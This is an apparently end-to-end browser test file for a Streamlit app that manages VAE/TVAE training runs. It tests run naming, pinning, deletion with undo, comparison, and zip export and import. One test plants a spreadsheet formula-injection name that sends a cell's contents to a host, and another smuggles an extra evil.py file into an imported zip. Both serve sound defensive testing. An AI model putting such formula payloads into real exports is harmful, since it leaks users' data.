"""The list of runs in a real browser: ticked, named, deleted and brought back, compared, taken away and brought in."""

from __future__ import annotations

import csv
import io
import os
import re
import time
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from tests.conftest import small_run_config
from tests.jobs.test_jobs import ended
from tvae.config import LossConfig, vae_and_tvae
from tvae.jobs.jobs import Jobs
from tvae.runs.run import read_metrics

APP = Path(__file__).parents[2] / "streamlit_app.py"
WAIT = 90_000
ME = "a-token-that-is-mine"
ROW = 35
"""Pixels of a row of the table, and of its head."""


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """Folder of runs with two runs of one owner, of different margins."""
    folder = tmp_path_factory.mktemp("runs")
    jobs, usual = Jobs(folder), small_run_config()
    for margin in (0.25, 1.5):
        config = replace(usual, arms=vae_and_tvae(LossConfig(margin=margin)))
        assert ended(jobs, jobs.starter.start(config, ME, name=f"pair {margin}")).state == "done"
    return folder


@pytest.fixture
def page(browser, streamlit_app, become, folder, monkeypatch):
    """The training page, open in the browser of the runs' owner."""
    monkeypatch.setenv("TVAE_RUNS", str(folder))
    context = browser.new_context(viewport={"width": 1400, "height": 1800}, accept_downloads=True)
    page = context.new_page()
    complaints: list[str] = []
    page.on("pageerror", lambda error: complaints.append(str(error)))
    become(context, streamlit_app(APP), ME)
    page.goto(f"{streamlit_app(APP)}/Training?run=digits")
    page.get_by_text("All runs").first.wait_for(timeout=WAIT)
    yield page
    context.close()
    assert complaints == []


def find(page, words, runs=1):
    """Search for these words, and wait until the list has this many runs: a tick on the old list would be lost."""
    field = page.get_by_label("Find")
    field.fill(words)
    field.press("Enter")
    page.get_by_test_id("stDataFrame").last.locator(f'[aria-rowcount="{runs + 1}"]').wait_for(
        state="attached", timeout=WAIT
    )


def tick(page, place):
    """Tick the row at this place."""
    table = page.get_by_test_id("stDataFrame").last
    table.scroll_into_view_if_needed()
    table.click(position={"x": 18, "y": ROW * (place + 1) + ROW // 2})


def run_named(name):
    return next(job for job in Jobs().runs() if job.name == name)


def test_a_run_is_named_noted_pinned_deleted_and_brought_back(page):
    job = run_named("pair 0.25")
    find(page, job.id)
    tick(page, 0)
    name = page.get_by_label("Name", exact=True)
    name.wait_for(timeout=WAIT)
    name.fill("pair 0.25, kept")
    page.get_by_label("Note", exact=True).fill("for the lecture")
    page.get_by_text("Pin", exact=True).click()
    page.get_by_role("button", name="Save").click()
    end = time.monotonic() + WAIT / 1000
    while not (told := Jobs().run(job.id)).pinned and time.monotonic() < end:  # which is changed last
        page.wait_for_timeout(50)
    assert (told.name, told.note, told.pinned) == ("pair 0.25, kept", "for the lecture", True)

    find(page, "pair", runs=2)  # both; the pinned one stands on top
    tick(page, 0)
    page.get_by_role("button", name="Delete").wait_for(timeout=WAIT)
    assert page.get_by_label("Name", exact=True).input_value() == "pair 0.25, kept"
    page.get_by_role("button", name="Delete").click()
    undo = page.get_by_role("button", name="Undo")
    undo.wait_for(timeout=WAIT)
    assert job.id not in {each.id for each in Jobs().runs()}
    # The tick doesn't go over to the run that now stands where the deleted one stood.
    assert page.get_by_role("button", name="Delete").count() == 0
    undo.click()
    undo.wait_for(state="detached", timeout=WAIT)
    assert Jobs().run(job.id) == told
    Jobs().rename(job.id, ME, "pair 0.25")
    Jobs().pin(job.id, ME, False)


def test_a_row_that_is_ticked_is_the_run_of_every_page_and_is_compared_with_another(page):
    find(page, run_named("pair 1.5").id)
    tick(page, 0)
    page.wait_for_url(re.compile(f"run={run_named('pair 1.5').id}"), wait_until="commit", timeout=WAIT)
    page.locator("[data-testid=stApp][data-test-script-state=notRunning]").wait_for(timeout=WAIT)
    page.get_by_test_id("stMain").get_by_role("combobox", name=re.compile("^Compare")).click(timeout=WAIT)
    page.get_by_role("option", name=re.compile("^pair 0.25")).click(timeout=WAIT)
    page.get_by_text("What came of it").wait_for(timeout=WAIT)
    tables = page.get_by_test_id("stTable")
    tables.nth(1).wait_for(timeout=WAIT)  # a table's own code is loaded when it is first met
    settings, figures = tables.all()
    assert "tvae: loss.margin" in settings.inner_text()
    assert {"0.25", "1.5"} <= set(settings.inner_text().split())
    assert "loss.kl-weight" not in settings.inner_text()
    assert "triplet accuracy at m = 0" in figures.inner_text()


def test_a_name_that_is_a_formula_is_text_on_the_page_and_in_the_downloaded_list(page, tmp_path):
    name = '=HYPERLINK("http://localhost/x?"&A1,"pair")'
    job = run_named("pair 0.25")
    Jobs().rename(job.id, ME, name)
    page.reload()
    find(page, job.id)
    tick(page, 0)
    page.get_by_role("heading", name=f"Run {job.id}").wait_for(timeout=WAIT)
    # A canvas draws the table; the cells beside it are what a screen reader has.
    cells = page.get_by_test_id("stDataFrame").last.locator("[role=gridcell]")
    cells.filter(has_text=name).first.wait_for(state="attached", timeout=WAIT)
    assert page.get_by_role("link", name="pair").count() == 0
    assert page.get_by_role("button", name="Download as CSV").count() == 0, (
        "Streamlit's own leaves formulas as they are"
    )
    with page.expect_download(timeout=WAIT) as download:
        page.get_by_role("button", name="List as CSV").click(timeout=WAIT)
    path = tmp_path / download.value.suggested_filename
    download.value.save_as(path)
    Jobs().rename(job.id, ME, "pair 0.25")
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [row["Name"] for row in rows if row["Run"] == job.id] == ["'" + name]
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "@"))]


def test_a_run_is_taken_away_as_a_zip_and_brought_in_again(page, tmp_path):
    job = run_named("pair 1.5")
    find(page, job.id)
    tick(page, 0)
    page.get_by_role("heading", name=f"Run {job.id}").wait_for(timeout=WAIT)  # what stood there was another's
    page.locator("[data-testid=stApp][data-test-script-state=notRunning]").wait_for(timeout=WAIT)
    with page.expect_download(timeout=WAIT) as download:
        page.get_by_role("button", name="Download as zip").click(timeout=WAIT)
    path = tmp_path / download.value.suggested_filename
    download.value.save_as(path)
    assert path.name == f"{job.id}.zip"
    with zipfile.ZipFile(path) as archive:
        assert {Path(name).suffix for name in archive.namelist()} <= {".safetensors", ".json", ".jsonl", ".md"}
        assert not any("job" in name or "about" in name for name in archive.namelist())

    bad = io.BytesIO()
    with zipfile.ZipFile(path) as archive, zipfile.ZipFile(bad, "w") as other:
        for name in archive.namelist():
            other.writestr(name, archive.read(name))
        other.writestr(f"{job.id}/evil.py", "print('gotcha')")
    (tmp_path / "bad.zip").write_bytes(bad.getvalue())
    before = {each.id for each in Jobs().runs()}
    page.get_by_role("button", name="Bring a run in").click()
    page.locator("input[type=file]").set_input_files(tmp_path / "bad.zip")
    page.get_by_text(re.compile("Not taken in.*evil.py")).wait_for(timeout=WAIT)
    assert {each.id for each in Jobs().runs()} == before

    page.locator("input[type=file]").set_input_files(path)
    page.wait_for_url(re.compile(r"watch=\w+"), timeout=WAIT)
    (run_id,) = {each.id for each in Jobs().runs()} - before
    assert f"watch={run_id}" in page.url
    brought = ended(Jobs(), run_id)
    assert brought.state == "done", brought.reason
    figures = [read_metrics(Path(os.environ["TVAE_RUNS"]) / name) for name in (job.id, run_id)]
    assert figures[0] is not None and figures[1] is not None
    for arm in ("vae", "tvae"):
        assert figures[0]["arms"][arm]["triplet_accuracy"] == pytest.approx(figures[1]["arms"][arm]["triplet_accuracy"])
    # It is compared with the run that every page shows, which is the one that was taken away.
    page.get_by_text(f"Settings that differ between {job.id} and {run_id}").wait_for(timeout=WAIT)
    page.get_by_text("None: the same settings.").wait_for(timeout=WAIT)
